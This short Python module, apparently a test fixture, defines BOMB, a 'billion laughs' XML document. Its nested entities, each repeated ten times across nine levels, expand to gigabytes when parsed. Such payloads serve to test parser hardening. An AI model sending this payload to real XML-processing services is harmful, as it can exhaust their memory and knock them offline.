"""XML that expands to gigabytes."""

from typing import Final

_ENTITIES: Final = "".join(
    f'<!ENTITY b{number} "{f"&b{number - 1};" * 10}">' for number in range(1, 10)
)
BOMB: Final = f'<!DOCTYPE a [<!ENTITY b0 "x">{_ENTITIES}]><a>&b9;</a>'
